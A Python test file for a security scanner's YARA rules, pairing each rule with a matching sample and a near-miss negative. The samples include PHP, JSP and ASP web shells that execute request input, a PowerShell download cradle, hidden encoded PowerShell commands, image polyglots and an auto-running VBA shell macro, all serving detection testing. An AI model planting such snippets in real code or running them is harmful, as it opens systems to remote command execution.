"""One positive and one near-miss negative per bundled YARA rule, plus ruleset caching."""

from __future__ import annotations

from pathlib import Path

import pytest

from secops.scanning import ScanConfig, Scanner, Severity, Verdict, ruleset_version
from secops.scanning.rules import RulesError, load_ruleset
from tests.scanning.corpus import EICAR, zip_bytes
from tests.scanning.ole_builder import vba_project_ole

OOXML_MACRO = zip_bytes([("[Content_Types].xml", b"<Types/>"),
                         ("word/vbaProject.bin", b"\0" * 64)])
OOXML_PLAIN = zip_bytes([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")])

CASES: list[tuple[str, bytes, bytes]] = [
    ("SECOPS_EICAR_Test_File", EICAR, b"README: " + EICAR),
    ("SECOPS_Webshell_PHP_Request_Exec",
     b"<?php @eval($_POST['cmd']); ?>",
     b"<?php echo htmlspecialchars($_POST['name']); eval('return 1;'); ?>"),
    ("SECOPS_Webshell_PHP_Obfuscated_Eval",
     b"<?php eval(gzinflate(base64_decode('80jNycnXUQjPL8pJAQA='))); ?>",
     b"<?php $x = base64_decode($data); echo gzinflate($x); ?>"),
    ("SECOPS_Webshell_JSP_Runtime_Exec",
     b'<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec('
     b'request.getParameter("c")); %>',
     b'<% String c = request.getParameter("c"); Runtime.getRuntime().exec("uptime"); %>'),
    ("SECOPS_Webshell_ASP_Request_Exec",
     b'<%@ Page Language="Jscript"%><% eval(Request.Item["x"],"unsafe"); %>',
     b'<% Response.Write(Server.HTMLEncode(Request.Form("x"))) %>'),
    ("SECOPS_PowerShell_Download_Cradle",
     b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"",
     b"# The Net.WebClient class has a DownloadString method; IEX is Invoke-Expression.\n"
     b"# Never combine them.\n"),
    ("SECOPS_PowerShell_Encoded_Command",
     b"powershell.exe -NoProfile -WindowStyle Hidden -enc "
     b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     b"powershell.exe -ExecutionPolicy Bypass -File deploy.ps1 -Environment production"),
    ("SECOPS_JS_Obfuscated_In_HTML",
     b"<html><script>eval(unescape('%61%6c%65%72%74%28%31%29'));</script></html>",
     b"<html><script>var s = unescape('%20'); console.log(eval);</script></html>"),
    ("SECOPS_Macro_OOXML_VBA_Project", OOXML_MACRO, OOXML_PLAIN),
    ("SECOPS_Hint_PowerShell", b"I`E`X (New-Object Net.WebClient)",
     b"Get-ChildItem -Recurse | Sort-Object Length; iex $x"),
    ("SECOPS_Hint_PowerShell_Encoded", b"powershell -enc SQBFAFgA",
     b"powershell -File build.ps1"),
    ("SECOPS_Hint_Server_Script", b"<?php echo $_GET['q']; ?>", b"<?xml version='1.0'?><a/>"),
    ("SECOPS_Polyglot_Image_JavaScript",
     b"GIF89a/*\x01\x00\x80\x00\x00;*/=alert(1);/**/",
     b"GIF89a\x01\x00\x01\x00\x80\x00\x00;*/=alert(1);/**/"),
    ("SECOPS_Polyglot_Image_Markup", b"GIF89a\x01\x00\x01\x00<?php phpinfo(); ?>",
     b"GIF89a\x01\x00\x01\x00<?xpacket begin=''?>"),
    ("SECOPS_HTML_Hidden_Iframe_Decoder",
     b"<html><iframe src=x width=0 height=0></iframe><script>eval(atob('eA=='))</script>",
     b"<html><iframe src=x width=600 height=400></iframe><script>eval(atob('eA=='))</script>"),
    ("SECOPS_Macro_OLE_VBA_Project",
     vba_project_ole('Sub Hello()\r\nMsgBox "hi"\r\nEnd Sub\r\n'),
     b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000 + "VBA_PROJECT".encode("utf-16le")),
    ("SECOPS_Macro_VBA_AutoExec_Shell",
     b"Sub AutoOpen()\r\n  Shell \"cmd.exe /c whoami\"\r\nEnd Sub\r\n",
     b"Sub Report()\r\n  Shell \"notepad.exe\"\r\nEnd Sub\r\n"),
]


def _rules(data: bytes) -> set[str]:
    return {m.rule for m in load_ruleset().rules.match(data=data)}


def test_every_bundled_rule_has_a_case_and_severity() -> None:
    ruleset = load_ruleset()
    bundled = {r.identifier: r.meta for r in ruleset.rules}
    assert set(bundled) == {name for name, _, _ in CASES}
    for meta in bundled.values():
        assert meta["severity"] in {s.label for s in Severity}
        assert meta["description"]


@pytest.mark.parametrize(("rule", "positive", "negative"), CASES, ids=[c[0] for c in CASES])
def test_rule_positive_and_near_miss(rule: str, positive: bytes, negative: bytes) -> None:
    assert rule in _rules(positive)
    assert rule not in _rules(negative)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (EICAR, True),
        (EICAR + b"\r\n", True),
        (EICAR + b" " * 60, True),  # exactly 128 bytes
        (EICAR + b" " * 61, False),  # 129 bytes: longer than the definition allows
        (EICAR + b"\nmore text", False),  # non-whitespace after the string
        (b" " + EICAR, False),  # not at offset 0
        (b"A" * 200 + EICAR + b"A" * 200, False),  # buried in other content
        (EICAR[:-1], False),
    ],
)
def test_eicar_follows_the_published_definition(data: bytes, expected: bool) -> None:
    assert ("SECOPS_EICAR_Test_File" in _rules(data)) is expected


def test_rule_severity_drives_the_verdict(scanner: Scanner) -> None:
    result = scanner.scan_bytes(EICAR, "eicar.com")
    assert result.verdict is Verdict.MALICIOUS
    assert [(f.id, f.severity, f.location) for f in result.findings] == [
        ("yara.SECOPS_EICAR_Test_File", Severity.CRITICAL, None)]


def test_ruleset_version_is_stable_and_cached() -> None:
    assert ruleset_version() == ruleset_version()
    assert load_ruleset().rules is load_ruleset().rules
    assert len(ruleset_version()) == 64


def test_extra_rule_directory_changes_version_and_matches(tmp_path: Path) -> None:
    (tmp_path / "local.yar").write_text(
        'rule Local_Marker { meta: severity = "low" strings: $a = "LOCAL-MARKER-42" '
        "condition: $a }\n")
    scanner = Scanner(ScanConfig(rule_dirs=(tmp_path,)))
    assert scanner.ruleset_version != ruleset_version()
    result = scanner.scan_bytes(b"xx LOCAL-MARKER-42 xx", "a.txt")
    assert {(f.id, f.severity) for f in result.findings} == {("yara.Local_Marker", Severity.LOW)}
    assert result.verdict is Verdict.CLEAN  # low severity is informational
    assert result.ruleset_version == scanner.ruleset_version


def test_unknown_severity_defaults_to_medium(tmp_path: Path) -> None:
    (tmp_path / "odd.yara").write_text(
        'rule Odd { meta: severity = "whatever" strings: $a = "ODD-77" condition: $a }\n')
    result = Scanner(ScanConfig(rule_dirs=(tmp_path,))).scan_bytes(b"ODD-77", "x")
    assert result.findings[0].severity is Severity.MEDIUM


def test_broken_rules_and_missing_directories_are_errors(tmp_path: Path) -> None:
    with pytest.raises(RulesError):
        Scanner(ScanConfig(rule_dirs=(tmp_path / "missing",)))
    (tmp_path / "bad.yar").write_text("rule { nope")
    with pytest.raises(RulesError):
        Scanner(ScanConfig(rule_dirs=(tmp_path,)))


def test_match_timeout_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule Slow { condition: for all i in (0..filesize - 1) : "
        "(for all j in (0..filesize - 1) : (uint8(i) != uint8(j) or i == i)) }\n")
    scanner = Scanner(ScanConfig(rule_dirs=(tmp_path,), include_bundled_rules=False,
                                 match_timeout=1))
    result = scanner.scan_bytes(b"a" * 200_000, "big.txt")
    assert "scan.timeout" in {f.id for f in result.findings}
    assert result.verdict is Verdict.SUSPICIOUS
